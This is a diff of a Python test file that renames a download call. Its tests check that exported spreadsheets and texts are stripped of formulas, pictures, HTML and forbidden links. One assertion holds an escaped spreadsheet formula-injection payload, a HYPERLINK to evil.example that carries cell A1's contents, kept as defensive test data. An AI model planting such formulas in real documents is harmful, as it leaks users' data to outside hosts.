@@ -642,7 +642,7 @@ def test_a_sheet_leaves_without_formulas_and_raw_only_by_choice(bench: Bench) ->
     assert cells[1] == ["Anna", """'=HYPERLINK("https://evil.example/?d="&A1,"total")"""]
     assert cells[2:] == [["-5", "a\n=b"], ["'@SUM(A1)", "ok"]]
     assert raw.data.decode() == content == documents.content(made)
-    assert bench.session.files.download(made.file_id) == safe.data
+    assert bench.session.files.leaving(made.file_id) == safe.data
 
 
 def test_a_text_leaves_without_pictures_html_and_forbidden_links(bench: Bench) -> None:
@@ -658,7 +658,7 @@ def test_a_text_leaves_without_pictures_html_and_forbidden_links(bench: Bench) -
         "https://a.example",
     ]
     assert "SELECT '![x](y)', a<b" in left.decode()
-    assert bench.session.files.download(made.file_id) == left
+    assert bench.session.files.leaving(made.file_id) == left
     assert bench.session.documents.content(made) == LIVE
 
 
